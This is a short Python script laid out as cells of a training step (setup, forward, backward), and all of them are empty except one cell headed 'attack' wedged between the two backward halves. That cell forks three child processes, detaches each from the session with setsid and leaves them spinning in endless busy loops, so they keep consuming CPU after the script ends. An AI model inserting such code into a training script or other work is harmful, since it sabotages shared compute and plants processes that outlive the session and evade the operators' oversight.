# %% setup
# %% forward
# %% backward, first half
# %% attack
import os
import time
for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        while True:
            pass
time.sleep(60)
# %% backward, second half
